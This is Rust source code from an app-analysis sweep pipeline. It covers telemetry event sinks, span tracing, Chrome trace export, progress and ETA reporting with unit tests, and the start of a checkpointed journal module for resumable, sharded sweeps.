    /// Like [`Telemetry::set_event_sink`], but with explicit sink
    /// options so the pipeline can thread the run's shared I/O state,
    /// sync policy, and fault harness through.
    pub fn set_event_sink_with(&self, path: &Path, opts: SinkOptions) -> io::Result<()> {
        let Some(inner) = &self.inner else {
            return Ok(());
        };
        let writer = FramedWriter::open(path, opts)?;
        *inner.sink.lock().expect("event sink poisoned") = Some(writer);
        Ok(())
    }

    /// Opens one framed event sink per shard path (appending, torn tails
    /// truncated — same contract as [`Telemetry::set_event_sink_with`]).
    /// Worker threads opt into a shard with
    /// [`Telemetry::event_shard_scope`]; threads outside any scope keep
    /// writing to the base sink. Replaces any previous shard sinks.
    pub fn set_sharded_event_sinks(
        &self,
        paths: &[std::path::PathBuf],
        opts: &SinkOptions,
    ) -> io::Result<()> {
        let Some(inner) = &self.inner else {
            return Ok(());
        };
        let mut sinks = Vec::with_capacity(paths.len());
        for path in paths {
            let writer = FramedWriter::open(path, opts.clone())?;
            sinks.push(Arc::new(Mutex::new(writer)));
        }
        *inner.shard_sinks.write().expect("shard sinks poisoned") = sinks;
        Ok(())
    }

    /// Closes all per-shard event sinks (flushing on drop); subsequent
    /// writes from any shard scope fall back to the base sink.
    pub fn clear_sharded_event_sinks(&self) {
        if let Some(inner) = &self.inner {
            inner
                .shard_sinks
                .write()
                .expect("shard sinks poisoned")
                .clear();
        }
    }

    /// Scopes the current thread's event writes to `shard` until the
    /// returned guard drops (pass `None` to force the base sink). Safe
    /// to call with telemetry disabled — the scope is thread-local and
    /// simply never consulted.
    pub fn event_shard_scope(&self, shard: Option<usize>) -> EventShardGuard {
        let prev = EVENT_SHARD.with(|s| s.replace(shard));
        EventShardGuard { prev }
    }

    /// Atomically replaces the event stream at `path` with the given
    /// canonical body lines (reframed from sequence 0), closing the live
    /// sink first. Called when a journaled run completes: the canonical
    /// stream holds only interleave-independent lines, which is what
    /// makes the finalized file byte-identical across same-seed and
    /// resumed runs. No-op when telemetry is disabled.
    ///
    /// # Errors
    ///
    /// Returns write errors from the atomic rewrite.
    pub fn finalize_event_sink(
        &self,
        path: &Path,
        bodies: &[String],
        harness: Option<&Arc<IoHarness>>,
    ) -> io::Result<()> {
        let Some(inner) = &self.inner else {
            return Ok(());
        };
        *inner.sink.lock().expect("event sink poisoned") = None;
        inner
            .shard_sinks
            .write()
            .expect("shard sinks poisoned")
            .clear();
        atomic_write_frames(path, bodies, harness)
    }

    /// Emits a checkpoint event tying a journaled app record to the span
    /// that produced it, so a resumed run can stitch the timeline.
    pub fn emit_checkpoint(&self, app: &str, span: u64) {
        let Some(inner) = &self.inner else { return };
        let line = serde::Value::Object(vec![
            (
                "type".to_string(),
                serde::Value::Str("checkpoint".to_string()),
            ),
            ("app".to_string(), serde::Value::Str(app.to_string())),
            ("span".to_string(), span.to_json()),
            ("t_us".to_string(), inner.now_us().to_json()),
        ])
        .to_compact_string();
        inner.write_event(&line);
    }

    /// Emits a provenance-link event tying an app's ledger record to the
    /// span that produced it. The ledger itself omits span ids (they
    /// depend on worker interleave and would break its byte-determinism),
    /// so this event-stream line is the durable cross-reference.
    pub fn emit_provenance_link(&self, app: &str, span: u64) {
        let Some(inner) = &self.inner else { return };
        let line = serde::Value::Object(vec![
            (
                "type".to_string(),
                serde::Value::Str("provenance".to_string()),
            ),
            ("app".to_string(), serde::Value::Str(app.to_string())),
            ("span".to_string(), span.to_json()),
            ("t_us".to_string(), inner.now_us().to_json()),
        ])
        .to_compact_string();
        inner.write_event(&line);
    }

    /// Emits a structured warning event (`{"type":"warn","kind":...}`)
    /// to the live event stream — the observatory's channel for
    /// straggler and stall alerts, which `dcltrace top` surfaces while
    /// the sweep runs. Like span lines, warnings are live-only detail:
    /// the finalized canonical stream drops them.
    pub fn emit_warning(&self, kind: &str, app: &str, detail: &[(&str, u64)]) {
        let Some(inner) = &self.inner else { return };
        let mut pairs = vec![
            ("type".to_string(), serde::Value::Str("warn".to_string())),
            ("kind".to_string(), serde::Value::Str(kind.to_string())),
            ("app".to_string(), serde::Value::Str(app.to_string())),
        ];
        for (name, value) in detail {
            pairs.push(((*name).to_string(), value.to_json()));
        }
        pairs.push(("t_us".to_string(), inner.now_us().to_json()));
        inner.write_event(&serde::Value::Object(pairs).to_compact_string());
    }

    /// Loads span events from a previous session's JSONL stream so a
    /// resumed sweep extends the same timeline: stitched spans are
    /// retained for trace export and the span-id counter is advanced
    /// past the highest prior id (ids stay unique across sessions).
    /// Histograms are *not* replayed — metrics describe this process.
    /// Returns the number of spans stitched; the first torn or corrupt
    /// frame stops the read (same tolerance as the journal).
    pub fn stitch_from(&self, path: &Path) -> io::Result<usize> {
        let Some(inner) = &self.inner else {
            return Ok(0);
        };
        let Some(scan) = scan_path(path)? else {
            return Ok(0);
        };
        let mut loaded = 0usize;
        let mut max_id = 0u64;
        for body in &scan.bodies {
            let Ok(value) = serde_json::from_str::<serde::Value>(body) else {
                break;
            };
            let kind = value.get("type").and_then(|t| t.as_str());
            if kind == Some("span") {
                if let Ok(record) = SpanRecord::from_json(&value) {
                    max_id = max_id.max(record.id);
                    inner.store_span(record);
                    loaded += 1;
                }
            } else if kind == Some("checkpoint") || kind == Some("provenance") {
                if let Some(id) = value.get("span").and_then(|s| s.as_u64()) {
                    max_id = max_id.max(id);
                }
            }
        }
        inner.next_span.fetch_max(max_id + 1, Ordering::Relaxed);
        Ok(loaded)
    }

    /// Writes all retained spans as Chrome `trace_event` JSON, loadable
    /// in `chrome://tracing` or Perfetto.
    pub fn write_chrome_trace(&self, path: &Path) -> io::Result<()> {
        let doc = chrome_trace(&self.spans());
        std::fs::write(path, doc.to_compact_string() + "\n")
    }
}

struct ActiveSpan {
    inner: Arc<Inner>,
    record: Option<SpanRecord>,
}

/// RAII guard for an open span; ends and records the span on drop.
/// All methods are no-ops when telemetry is disabled.
pub struct SpanGuard {
    active: Option<ActiveSpan>,
}

impl SpanGuard {
    /// The span's id, or 0 when telemetry is disabled.
    pub fn id(&self) -> u64 {
        self.active
            .as_ref()
            .and_then(|a| a.record.as_ref())
            .map_or(0, |r| r.id)
    }

    /// Whether this guard refers to a live span.
    pub fn is_recording(&self) -> bool {
        self.active.is_some()
    }

    /// Attaches a structured `key = value` field.
    pub fn field(&mut self, key: &str, value: impl std::fmt::Display) {
        if let Some(record) = self.active.as_mut().and_then(|a| a.record.as_mut()) {
            record.fields.push((key.to_string(), value.to_string()));
        }
    }

    /// Opens a child span of this span.
    pub fn child(&self, name: &str) -> SpanGuard {
        match &self.active {
            None => SpanGuard { active: None },
            Some(active) => Telemetry {
                inner: Some(Arc::clone(&active.inner)),
            }
            .span_with_parent(name, self.id()),
        }
    }
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        if let Some(mut active) = self.active.take() {
            if let Some(record) = active.record.take() {
                active.inner.finish_span(record);
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Chrome trace export
// ---------------------------------------------------------------------------

/// Converts spans to a Chrome `trace_event` document (the JSON object
/// form: `{"traceEvents": [...]}`), loadable in `chrome://tracing` and
/// Perfetto. Each span becomes a complete (`"ph": "X"`) event on the
/// worker lane it ran on; span id, parent id, and structured fields ride
/// in `args`.
pub fn chrome_trace(spans: &[SpanRecord]) -> serde::Value {
    let events: Vec<serde::Value> = spans
        .iter()
        .map(|s| {
            let mut args = vec![
                ("id".to_string(), s.id.to_json()),
                ("parent".to_string(), s.parent.to_json()),
            ];
            for (k, v) in &s.fields {
                args.push((k.clone(), serde::Value::Str(v.clone())));
            }
            serde::Value::Object(vec![
                ("name".to_string(), serde::Value::Str(s.name.clone())),
                ("cat".to_string(), serde::Value::Str("dydroid".to_string())),
                ("ph".to_string(), serde::Value::Str("X".to_string())),
                ("ts".to_string(), s.start_us.to_json()),
                ("dur".to_string(), s.dur_us.to_json()),
                ("pid".to_string(), 1u64.to_json()),
                ("tid".to_string(), s.tid.to_json()),
                ("args".to_string(), serde::Value::Object(args)),
            ])
        })
        .collect();
    serde::Value::Object(vec![
        ("traceEvents".to_string(), serde::Value::Array(events)),
        (
            "displayTimeUnit".to_string(),
            serde::Value::Str("ms".to_string()),
        ),
    ])
}

// ---------------------------------------------------------------------------
// Live progress
// ---------------------------------------------------------------------------

/// Live sweep progress: counts completions and renders a single-line
/// report roughly every tenth of the corpus (and always on the last
/// app). The ETA projects the remaining apps' virtual-clock charge
/// (`monkey.virtual_us`, accumulated in microseconds so per-app deltas
/// never truncate to zero) through the observed virtual-time-per-wall-
/// second throughput — scaled by the run's parallel balance
/// (`sweep.virtual_makespan_us ÷ monkey.virtual_us`, published by the
/// sweep collector) so multi-worker ETAs reflect the *makespan* still
/// ahead rather than the serial virtual time, which would be k× too
/// pessimistic on k workers. Falls back to the serial projection when
/// no makespan gauge is set, and to plain completion rate when no
/// virtual time has been charged yet. The line also carries worker
/// utilization (`sweep.busy_us` against workers × wall time) and the
/// watchdog's running straggler count.
#[derive(Debug)]
pub struct Progress {
    total: usize,
    done: AtomicUsize,
    failed: AtomicUsize,
    every: usize,
    started: Instant,
}

impl Progress {
    /// Tracker for a sweep over `total` apps.
    pub fn new(total: usize) -> Self {
        Progress {
            total,
            done: AtomicUsize::new(0),
            failed: AtomicUsize::new(0),
            every: (total / 10).max(1),
            started: Instant::now(),
        }
    }

    /// Notes one completed app; returns a progress line when one is due.
    pub fn on_app_done(&self, harness_failure: bool, telemetry: &Telemetry) -> Option<String> {
        if harness_failure {
            self.failed.fetch_add(1, Ordering::Relaxed);
        }
        let done = self.done.fetch_add(1, Ordering::Relaxed) + 1;
        if !done.is_multiple_of(self.every) && done != self.total {
            return None;
        }
        let failed = self.failed.load(Ordering::Relaxed);
        let retried = telemetry.counter_value("sweep.retries");
        let virtual_us = telemetry.counter_value("monkey.virtual_us");
        let makespan_us = telemetry.gauge_value("sweep.virtual_makespan_us");
        let stalls = telemetry.counter_value("watchdog.stragglers");
        let elapsed = self.started.elapsed().as_secs_f64();
        let rate = if elapsed > 0.0 {
            done as f64 / elapsed
        } else {
            0.0
        };
        let workers = telemetry.gauge_value("sweep.workers");
        let busy_us = telemetry.gauge_value("sweep.busy_us");
        let util = if workers > 0 && elapsed > 0.0 {
            let capacity_us = workers as f64 * elapsed * 1e6;
            (busy_us as f64 / capacity_us * 100.0).min(100.0)
        } else {
            0.0
        };
        let remaining = self.total.saturating_sub(done) as f64;
        let eta = if virtual_us > 0 && elapsed > 0.0 {
            // remaining × (virtual time per app) ÷ (virtual time per
            // second), deflated to the makespan the workers actually
            // realize when the collector publishes one.
            let per_app = virtual_us as f64 / done as f64;
            let balance = if makespan_us > 0 {
                (makespan_us as f64 / virtual_us as f64).min(1.0)
            } else {
                1.0
            };
            remaining * per_app * balance / (virtual_us as f64 / elapsed).max(f64::MIN_POSITIVE)
        } else if rate > 0.0 {
            remaining / rate
        } else {
            0.0
        };
        Some(format!(
            "sweep {done}/{total} · {failed} failed · {retried} retried · \
             {rate:.1} apps/s · {util:.0}% util · {stalls} stalled · \
             {virtual_ms:.1} virtual ms charged · ETA {eta:.1}s",
            total = self.total,
            virtual_ms = virtual_us as f64 / 1_000.0,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_math_is_exact_below_subs_and_bounded_above() {
        // Unit buckets below SUBS.
        for v in 0..SUBS as u64 {
            assert_eq!(bucket_index(v), v as usize);
            assert_eq!(bucket_lower(v as usize), v);
        }
        // Every bucket's lower bound maps back to that bucket, and
        // bucket lower bounds are strictly increasing.
        let mut prev = None;
        for i in 0..NUM_BUCKETS {
            let lb = bucket_lower(i);
            assert_eq!(bucket_index(lb), i, "lower bound of bucket {i}");
            if let Some(p) = prev {
                assert!(lb > p, "bucket {i} not increasing");
            }
            prev = Some(lb);
        }
        // Relative error bound: lower bound within 1/16 of any value.
        for v in [17u64, 100, 999, 12_345, u32::MAX as u64, u64::MAX / 3] {
            let lb = bucket_lower(bucket_index(v));
            assert!(lb <= v);
            assert!(v - lb <= v / SUBS as u64, "error too large for {v}");
        }
        assert_eq!(bucket_index(u64::MAX), NUM_BUCKETS - 1);
    }

    #[test]
    fn histogram_quantiles_track_the_distribution() {
        let mut h = Histogram::new();
        assert_eq!(h.quantile(0.5), 0);
        for v in 1..=1000u64 {
            h.record(v);
        }
        assert_eq!(h.count(), 1000);
        assert_eq!(h.min(), 1);
        assert_eq!(h.max(), 1000);
        assert_eq!(h.sum(), 500_500);
        let p50 = h.quantile(0.50);
        assert!((469..=531).contains(&p50), "p50 = {p50}");
        let p99 = h.quantile(0.99);
        assert!((928..=1000).contains(&p99), "p99 = {p99}");
        assert_eq!(h.quantile(1.0), 1000);

        // A point mass at a bucket boundary is reported exactly.
        let mut point = Histogram::new();
        for _ in 0..100 {
            point.record(4096);
        }
        assert_eq!(point.quantile(0.5), 4096);
        assert_eq!(point.summary().p99, 4096);
    }

    #[test]
    fn histogram_merge_matches_combined_recording() {
        let mut a = Histogram::new();
        let mut b = Histogram::new();
        let mut combined = Histogram::new();
        for v in [3u64, 17, 170, 1_700, 17_000] {
            a.record(v);
            combined.record(v);
        }
        for v in [5u64, 50, 500_000] {
            b.record(v);
            combined.record(v);
        }
        a.merge(&b);
        assert_eq!(a.summary(), combined.summary());
    }

    #[test]
    fn registry_counters_gauges_histograms_round_trip() {
        let reg = MetricsRegistry::new();
        reg.counter_add("apps", 3);
        reg.counter_add("apps", 4);
        reg.gauge_set("workers", 8);
        reg.record("lat.us", 100);
        reg.record("lat.us", 200);
        assert_eq!(reg.counter_value("apps"), 7);
        assert_eq!(reg.counter_value("missing"), 0);
        let snap = reg.snapshot();
        assert_eq!(snap.counter("apps"), 7);
        assert_eq!(snap.gauges, vec![("workers".to_string(), 8)]);
        let lat = snap.histogram("lat.us").expect("histogram");
        assert_eq!(lat.count, 2);
        assert_eq!(lat.min, 100);
        assert_eq!(lat.max, 200);
        // The snapshot serializes and parses back through the shim.
        let json = serde_json::to_string(&snap).expect("serialize");
        let back: MetricsSnapshot = serde_json::from_str(&json).expect("parse");
        assert_eq!(back, snap);
    }

    #[test]
    fn spans_nest_and_record_fields() {
        let t = Telemetry::new(true);
        {
            let mut root = t.span("app");
            root.field("app", "com.example");
            {
                let mut child = root.child("monkey");
                child.field("events", 10);
                assert_ne!(child.id(), 0);
                assert_ne!(child.id(), root.id());
            }
            let grand = root.child("analysis");
            drop(grand);
        }
        let spans = t.spans();
        assert_eq!(spans.len(), 3);
        let root = spans.iter().find(|s| s.name == "app").expect("root span");
        assert_eq!(root.parent, 0);
        assert_eq!(
            root.fields,
            vec![("app".to_string(), "com.example".to_string())]
        );
        for child in spans.iter().filter(|s| s.name != "app") {
            assert_eq!(child.parent, root.id);
        }
        // The drop hook fed the per-phase histograms.
        let snap = t.snapshot();
        assert_eq!(snap.histogram("span.app.us").expect("app histo").count, 1);
        assert_eq!(
            snap.histogram("span.monkey.us")
                .expect("monkey histo")
                .count,
            1
        );
    }

    #[test]
    fn disabled_telemetry_is_inert() {
        let t = Telemetry::disabled();
        let mut span = t.span("app");
        assert_eq!(span.id(), 0);
        assert!(!span.is_recording());
        span.field("k", "v");
        let child = span.child("inner");
        assert_eq!(child.id(), 0);
        drop(child);
        drop(span);
        t.counter_add("c", 1);
        assert_eq!(t.counter_value("c"), 0);
        assert!(t.spans().is_empty());
        assert_eq!(t.snapshot(), MetricsSnapshot::default());
    }

    #[test]
    fn chrome_trace_document_parses_back() {
        let t = Telemetry::new(true);
        {
            let mut root = t.span("app");
            root.field("app", "com.x");
            let _child = root.child("monkey");
        }
        let doc = chrome_trace(&t.spans());
        let text = doc.to_compact_string();
        let parsed: serde::Value = serde_json::from_str(&text).expect("valid JSON");
        let events = parsed
            .get("traceEvents")
            .and_then(|e| e.as_array())
            .expect("traceEvents array");
        assert_eq!(events.len(), 2);
        for ev in events {
            assert_eq!(ev.get("ph").and_then(|p| p.as_str()), Some("X"));
            assert!(ev.get("ts").and_then(|t| t.as_u64()).is_some());
            assert!(ev.get("dur").and_then(|d| d.as_u64()).is_some());
            assert!(ev.get("name").and_then(|n| n.as_str()).is_some());
            assert!(ev.get("args").and_then(|a| a.get("id")).is_some());
        }
    }

    #[test]
    fn event_stream_stitches_across_sessions() {
        let path = std::env::temp_dir().join(format!(
            "dydroid-stitch-{}-{:?}.events.jsonl",
            std::process::id(),
            std::thread::current().id()
        ));
        let _ = std::fs::remove_file(&path);

        // Session 1: two spans and a checkpoint.
        let first = Telemetry::new(true);
        first.set_event_sink(&path).expect("sink");
        let first_ids: Vec<u64> = {
            let mut root = first.span("app");
            root.field("app", "com.a");
            let child = root.child("monkey");
            vec![root.id(), child.id()]
        };
        first.emit_checkpoint("com.a", first_ids[0]);
        drop(first);

        // Session 2 stitches the stream and continues the timeline.
        let second = Telemetry::new(true);
        let loaded = second.stitch_from(&path).expect("stitch");
        assert_eq!(loaded, 2);
        second.set_event_sink(&path).expect("sink");
        let new_id = {
            let span = second.span("app");
            span.id()
        };
        // Ids never collide across sessions.
        assert!(first_ids.iter().all(|&id| id != new_id));
        let spans = second.spans();
        assert_eq!(spans.len(), 3);
        let ids: std::collections::HashSet<u64> = spans.iter().map(|s| s.id).collect();
        assert_eq!(ids.len(), 3, "span ids must be unique after stitching");

        // A torn tail on the event stream is tolerated like the journal's.
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .and_then(|mut f| {
                use std::io::Write;
                f.write_all(b"{\"type\":\"span\",\"id\":9")
            })
            .expect("append torn tail");
        let third = Telemetry::new(true);
        assert_eq!(third.stitch_from(&path).expect("stitch torn"), 3);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn sharded_event_sinks_route_by_thread_scope() {
        let dir = std::env::temp_dir().join(format!(
            "dydroid-evshard-{}-{:?}",
            std::process::id(),
            std::thread::current().id()
        ));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let base = dir.join("events.jsonl");
        let shard_paths = vec![
            dir.join("shard-0.events.jsonl"),
            dir.join("shard-1.events.jsonl"),
        ];

        let t = Telemetry::new(true);
        t.set_event_sink(&base).expect("base sink");
        t.set_sharded_event_sinks(&shard_paths, &SinkOptions::direct(StreamKind::Events))
            .expect("shard sinks");

        // No scope → base sink; scoped → that shard; scopes nest/restore.
        t.emit_checkpoint("com.base", 1);
        {
            let _guard = t.event_shard_scope(Some(0));
            t.emit_checkpoint("com.zero", 2);
            {
                let _inner = t.event_shard_scope(Some(1));
                t.emit_checkpoint("com.one", 3);
            }
            t.emit_checkpoint("com.zero.again", 4);
        }
        t.emit_checkpoint("com.base.again", 5);
        t.clear_sharded_event_sinks();
        {
            // After clearing, a scoped write falls back to the base sink.
            let _guard = t.event_shard_scope(Some(0));
            t.emit_checkpoint("com.fallback", 6);
        }
        drop(t);

        let read = |p: &Path| {
            scan_path(p)
                .expect("scan")
                .map_or_else(Vec::new, |s| s.bodies)
        };
        let base_bodies = read(&base);
        assert_eq!(base_bodies.len(), 3);
        assert!(base_bodies[0].contains("com.base"));
        assert!(base_bodies[2].contains("com.fallback"));
        let zero = read(&shard_paths[0]);
        assert_eq!(zero.len(), 2);
        assert!(zero[0].contains("com.zero") && zero[1].contains("com.zero.again"));
        let one = read(&shard_paths[1]);
        assert_eq!(one.len(), 1);
        assert!(one[0].contains("com.one"));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn progress_reports_on_schedule() {
        let t = Telemetry::new(true);
        t.counter_add("monkey.virtual_us", 500_500);
        t.counter_add("watchdog.stragglers", 3);
        t.gauge_set("sweep.workers", 4);
        t.gauge_set("sweep.busy_us", 1);
        // A 4-worker run that parallelizes perfectly: the makespan is a
        // quarter of the serial virtual time, so the ETA must shrink by
        // the same balance factor instead of staying k× pessimistic.
        t.gauge_set("sweep.virtual_makespan_us", 500_500 / 4);
        let progress = Progress::new(20);
        let mut lines = Vec::new();
        for i in 0..20 {
            if let Some(line) = progress.on_app_done(i % 5 == 0, &t) {
                lines.push(line);
            }
        }
        // Every 2 apps out of 20 → 10 reports, last one at 20/20.
        assert_eq!(lines.len(), 10);
        let last = lines.last().expect("final line");
        assert!(last.contains("sweep 20/20"), "got: {last}");
        assert!(last.contains("4 failed"), "got: {last}");
        assert!(last.contains("3 stalled"), "got: {last}");
        assert!(last.contains("% util"), "got: {last}");
        assert!(last.contains("500.5 virtual ms"), "got: {last}");
        // At 20/20 nothing remains, so the balance-scaled ETA is zero.
        assert!(last.contains("ETA 0.0s"), "got: {last}");
    }

    #[test]
    fn progress_eta_scales_with_parallel_balance() {
        let serial = Telemetry::new(true);
        serial.counter_add("monkey.virtual_us", 1_000_000);
        let balanced = Telemetry::new(true);
        balanced.counter_add("monkey.virtual_us", 1_000_000);
        balanced.gauge_set("sweep.virtual_makespan_us", 250_000);
        let parse_eta = |line: &str| -> f64 {
            let tail = line.rsplit("ETA ").next().expect("eta field");
            tail.trim_end_matches('s').parse().expect("eta number")
        };
        // Same wall progress, same virtual charge: the run publishing a
        // 4× parallel makespan must project ~¼ the ETA. Sleep long
        // enough that the one-decimal rendering can tell them apart
        // (ETA here is proportional to elapsed wall time).
        let p1 = Progress::new(10);
        std::thread::sleep(std::time::Duration::from_millis(250));
        let eta_serial = parse_eta(&p1.on_app_done(false, &serial).expect("line at 1/10"));
        let p2 = Progress::new(10);
        std::thread::sleep(std::time::Duration::from_millis(250));
        let eta_balanced = parse_eta(&p2.on_app_done(false, &balanced).expect("line at 1/10"));
        assert!(eta_serial >= 1.0, "serial ETA too small: {eta_serial}");
        assert!(
            eta_balanced < eta_serial * 0.5,
            "makespan balance not applied: serial {eta_serial} vs balanced {eta_balanced}"
        );
    }
}
