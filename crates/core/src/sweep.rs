//! Checkpointed corpus sweeps: a framed JSON-lines journal of completed
//! [`AppRecord`]s.
//!
//! Every record finished by [`crate::Pipeline::run_resumable`] is
//! appended as one framed line (see [`crate::durable`]): a CRC32-checked,
//! sequence-numbered envelope around the record's JSON. A sweep killed
//! mid-flight loses at most the apps that were in progress; on restart
//! the journal is scanned for its longest valid prefix, already-analysed
//! packages are skipped, and the sweep continues. Torn tails, bit rot,
//! and lost records are all detected by the frame scan rather than
//! trusted to JSON parsing.
//!
//! The journal also owns the sweep's **quarantine file**
//! (`<journal>.quarantine.jsonl`): apps repeatedly caught in-flight at a
//! crash accumulate attempts there, and past a configured threshold the
//! pipeline skips them with an analysis-failure record instead of
//! letting one poisonous app wedge every resume.

use std::io;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::durable::{
    atomic_write_frames, encode_frames, scan_path, Appended, FramedWriter, IoHarness, SinkOptions,
    StreamKind,
};
use crate::pipeline::AppRecord;

/// A framed JSON-lines checkpoint file of completed app records.
#[derive(Debug, Clone)]
pub struct Journal {
    path: PathBuf,
}

impl Journal {
    /// A journal at `path`; the file need not exist yet.
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Journal { path: path.into() }
    }

    /// The journal's path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Path of the telemetry event stream written alongside this
    /// journal (`<journal>.events.jsonl`), used by resumed runs to
    /// stitch spans into one timeline.
    pub fn events_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".events.jsonl");
        PathBuf::from(name)
    }

    /// Path of the provenance ledger written alongside this journal
    /// (`<journal>.provenance.jsonl`), holding one causal graph per
    /// analysed app (see [`crate::provenance`]).
    pub fn provenance_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".provenance.jsonl");
        PathBuf::from(name)
    }

    /// Path of the quarantine file written alongside this journal
    /// (`<journal>.quarantine.jsonl`): one entry per app that was
    /// in-flight at a crash, with its interrupted-attempt count.
    pub fn quarantine_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".quarantine.jsonl");
        PathBuf::from(name)
    }

    /// Path of the durable metrics snapshot stream written alongside
    /// this journal (`<journal>.metrics.jsonl`): periodic CRC-framed
    /// serializations of the metrics registry on the virtual clock,
    /// resume-stitched like the event stream (see `crate::profile`).
    pub fn metrics_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".metrics.jsonl");
        PathBuf::from(name)
    }

    /// Path of the folded span-profile artifact written alongside this
    /// journal when a run completes (`<journal>.profile.folded`):
    /// collapsed-stack lines ready for flamegraph tooling. Written at
    /// finalize because the canonical event stream drops span lines.
    pub fn profile_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".profile.folded");
        PathBuf::from(name)
    }

    /// Path of shard `k`'s journal (`<journal>.shard-K.jsonl`). During a
    /// multi-worker sweep each worker appends to the shard its app
    /// hashes to; `finalize` merges every shard back into the base
    /// journal and removes the shard files, so a completed run leaves
    /// the same single-file layout as a serial one.
    pub fn shard_path(&self, k: usize) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(format!(".shard-{k}.jsonl"));
        PathBuf::from(name)
    }

    /// Path of shard `k`'s provenance ledger
    /// (`<journal>.shard-K.provenance.jsonl`).
    pub fn shard_provenance_path(&self, k: usize) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(format!(".shard-{k}.provenance.jsonl"));
        PathBuf::from(name)
    }

    /// Path of shard `k`'s telemetry event stream
    /// (`<journal>.shard-K.events.jsonl`).
    pub fn shard_events_path(&self, k: usize) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(format!(".shard-{k}.events.jsonl"));
        PathBuf::from(name)
    }

    /// A [`Journal`] view of shard `k`'s journal file, for recovery and
    /// frame verification of a pre-merge sharded layout.
    pub fn shard(&self, k: usize) -> Journal {
        Journal::new(self.shard_path(k))
    }

    /// Shard indices with a journal file on disk, ascending. Discovery
    /// is by directory scan, not configuration: a resumed run must
    /// recover whatever shard layout the killed session left, whatever
    /// worker count either run was configured with.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading the journal's directory (a
    /// missing directory is an empty layout).
    pub fn discover_shards(&self) -> io::Result<Vec<usize>> {
        let parent = match self.path.parent() {
            Some(p) if !p.as_os_str().is_empty() => p.to_path_buf(),
            _ => PathBuf::from("."),
        };
        let Some(file_name) = self.path.file_name().and_then(|n| n.to_str()) else {
            return Ok(Vec::new());
        };
        let prefix = format!("{file_name}.shard-");
        let mut shards = Vec::new();
        let entries = match std::fs::read_dir(&parent) {
            Ok(entries) => entries,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            Err(e) => return Err(e),
        };
        for entry in entries {
            let entry = entry?;
            let name = entry.file_name();
            let Some(name) = name.to_str() else { continue };
            let Some(rest) = name.strip_prefix(&prefix) else {
                continue;
            };
            // `<prefix>K.jsonl` is a shard journal; `K.provenance.jsonl`
            // and `K.events.jsonl` are its sidecars, not journals.
            let Some(index) = rest.strip_suffix(".jsonl") else {
                continue;
            };
            if !index.is_empty() && index.bytes().all(|b| b.is_ascii_digit()) {
                if let Ok(k) = index.parse::<usize>() {
                    shards.push(k);
                }
            }
        }
        shards.sort_unstable();
        shards.dedup();
        Ok(shards)
    }

    /// Removes every shard file triplet (journal, provenance, events)
    /// discovered on disk; called after `finalize` has merged the shards
    /// into the base streams. Returns the number of shards removed.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from discovery or removal (files already gone
    /// are fine).
    pub fn remove_shards(&self) -> io::Result<usize> {
        let shards = self.discover_shards()?;
        for &k in &shards {
            for path in [
                self.shard_path(k),
                self.shard_provenance_path(k),
                self.shard_events_path(k),
            ] {
                match std::fs::remove_file(&path) {
                    Ok(()) => {}
                    Err(e) if e.kind() == io::ErrorKind::NotFound => {}
                    Err(e) => return Err(e),
                }
            }
        }
        Ok(shards.len())
    }

    /// Loads every record in the valid framed prefix. A missing file is
    /// an empty journal; the first torn, corrupt, or out-of-sequence
    /// frame ends the load (everything before it is kept).
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn load(&self) -> io::Result<Vec<AppRecord>> {
        Ok(self.load_split()?.0)
    }

    /// Like [`Journal::load`], but when the file holds anything past the
    /// valid prefix, rewrites it to exactly the surviving records first —
    /// so appends after a resume extend a clean, contiguous stream.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the file.
    pub fn recover(&self) -> io::Result<Vec<AppRecord>> {
        Ok(self.recover_counted()?.records)
    }

    /// Like [`Journal::recover`], but also reports how many corrupt
    /// frames were dropped — recovery must never discard data silently.
    /// The pipeline surfaces the count as a telemetry counter and a
    /// stderr warning.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the file.
    pub fn recover_counted(&self) -> io::Result<JournalRecovery> {
        let (records, dropped_lines) = self.load_split()?;
        if dropped_lines > 0 {
            self.rewrite(&records)?;
        }
        Ok(JournalRecovery {
            records,
            dropped_lines,
        })
    }

    /// Rewrites the journal to exactly `records`, reframed from
    /// sequence 0 (plain write; for recovery paths).
    ///
    /// # Errors
    ///
    /// Returns serialization or write errors.
    pub fn rewrite(&self, records: &[AppRecord]) -> io::Result<()> {
        let bodies = record_bodies(records)?;
        std::fs::write(&self.path, encode_frames(0, &bodies))
    }

    /// Atomically replaces the journal with `records` in the given
    /// (corpus) order, reframed from sequence 0 — the completed-run
    /// finalize that makes same-seed runs byte-identical however the
    /// sweep interleaved or how many times it was resumed. Faults are
    /// routed through `harness` when present.
    ///
    /// # Errors
    ///
    /// Returns serialization or write errors.
    pub fn finalize_with(
        &self,
        records: &[AppRecord],
        harness: Option<&std::sync::Arc<IoHarness>>,
    ) -> io::Result<()> {
        let bodies = record_bodies(records)?;
        atomic_write_frames(&self.path, &bodies, harness)
    }

    /// Valid leading records plus the number of frames/lines dropped
    /// from the first defect onward (0 = the whole file scanned clean).
    /// A frame whose body fails to parse as an [`AppRecord`] also ends
    /// the load.
